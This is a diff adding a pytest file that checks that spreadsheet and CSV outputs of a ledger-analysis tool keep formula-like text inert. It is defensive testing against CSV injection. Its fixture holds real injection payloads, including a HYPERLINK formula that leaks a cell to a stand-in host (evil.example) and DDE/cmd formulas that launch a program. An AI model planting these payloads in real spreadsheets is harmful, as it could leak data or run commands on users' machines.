@@ -1,0 +1,145 @@
+"""Text that looks like a formula stays text in every file we write (Excel and CSV)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from analysis.commands.validate import render_csv
+from analysis.load import load_ledger
+from analysis.output import FORMULA_TRIGGERS
+from analysis.workbook import write_ledger_workbook, write_template
+
+#: Real payloads: the OWASP CSV-injection examples, DDE, and the leading characters
+#: Excel and LibreOffice treat as the start of a formula (tab and CR are stripped first).
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=1+1",
+    "-",
+    "+",
+    "@",
+)
+
+#: ``<f>`` or ``<f t="shared" …>`` in sheet XML; data validations use ``<formula1>``.
+_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
+
+
+def assert_no_formula_elements(path: Path) -> None:
+    """No worksheet of the package stores a cell formula."""
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            assert not _FORMULA_ELEMENT.search(archive.read(name)), name
+
+
+def assert_text_cells(path: Path, expected: dict[tuple[str, str], str]) -> None:
+    """Each (sheet, cell) holds the expected string as text, quote-prefixed if formula-like."""
+    wb = openpyxl.load_workbook(path)
+    for (sheet, ref), value in expected.items():
+        cell = wb[sheet][ref]
+        assert cell.data_type == "s", (sheet, ref, cell.data_type)
+        assert cell.value == value, (sheet, ref, cell.value)
+        assert cell.quotePrefix == value.startswith(FORMULA_TRIGGERS), (sheet, ref)
+
+
+def _events() -> pd.DataFrame:
+    n = len(PAYLOADS)
+    return pd.DataFrame(
+        {
+            "event_id": [f"E{i}" for i in range(n)],
+            "programme": list(PAYLOADS),
+            "name": list(PAYLOADS),
+            "event_type": ["roadshow"] * n,
+            "region": list(PAYLOADS),
+            "date": pd.to_datetime(["2023-10-28"] * n),
+            "note": list(PAYLOADS),
+        }
+    )
+
+
+def _signings() -> pd.DataFrame:
+    n = len(PAYLOADS)
+    return pd.DataFrame(
+        {
+            "signing_id": list(PAYLOADS),
+            "programme": ["科创中国"] * n,
+            "title": list(PAYLOADS),
+            "stage": ["signed"] * n,
+            "mode": ["transfer"] * n,
+            "region": ["杭州"] * n,
+            "field": list(PAYLOADS),
+            "date": pd.to_datetime(["2023-10-28"] * n),
+            "value": [1.0] * n,
+            # The analyst's own text of a quantity is written as typed.
+            "value_text": list(PAYLOADS),
+        }
+    )
+
+
+def test_ledger_workbook_keeps_payloads_as_text(tmp_path: Path) -> None:
+    path = write_ledger_workbook(
+        {"events": _events(), "signings": _signings()}, tmp_path / "l.xlsx", title="=1+1"
+    )
+    assert_no_formula_elements(path)
+    expected = {}
+    for i, payload in enumerate(PAYLOADS, start=2):
+        # 活动: B 项目名称, C 活动名称, E 地区.  签约: A 编号, D 成果名称, H 技术领域, K 金额.
+        for ref in ("B", "C", "E"):
+            expected["活动", f"{ref}{i}"] = payload
+        for ref in ("A", "D", "H", "K"):
+            expected["签约", f"{ref}{i}"] = payload
+    expected["说明", "A1"] = "=1+1"  # the title
+    assert_text_cells(path, expected)
+
+
+def test_template_has_no_cell_formulas(tmp_path: Path) -> None:
+    assert_no_formula_elements(write_template(tmp_path / "template.xlsx"))
+
+
+def test_payloads_read_back_as_text(tmp_path: Path) -> None:
+    path = write_ledger_workbook({"events": _events()}, tmp_path / "l.xlsx")
+    names = load_ledger(path).events["name"].tolist()
+    # The loader trims surrounding whitespace (the tab and CR) and keeps the rest verbatim.
+    assert names == [p.strip() for p in PAYLOADS]
+
+
+def test_validate_csv_keeps_rejected_payloads_inert(tmp_path: Path) -> None:
+    # Every payload as an unknown category: rejected, and its value lands in the CSV report.
+    frame = _events().assign(event_type="路演")
+    path = write_ledger_workbook({"events": frame}, tmp_path / "l.xlsx")
+    wb = openpyxl.load_workbook(path)
+    for i, payload in enumerate(PAYLOADS, start=2):
+        wb["活动"][f"D{i}"].value = payload  # 活动类型
+        wb["活动"][f"D{i}"].data_type = "s"
+    wb.save(path)
+    report = load_ledger(path).report
+    assert len(report.rejections) == len(PAYLOADS)
+    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
+    values = [row["value"] for row in rows]
+    # A leading apostrophe stops Excel from evaluating; stripped payloads as the loader read them.
+    assert values == ["'" + p.strip() if p.strip() else p for p in PAYLOADS]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_TRIGGERS), row
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_every_payload_starts_like_a_formula(payload: str) -> None:
+    # The list above really is a list of payloads, not ordinary text.
+    assert payload.startswith(FORMULA_TRIGGERS)
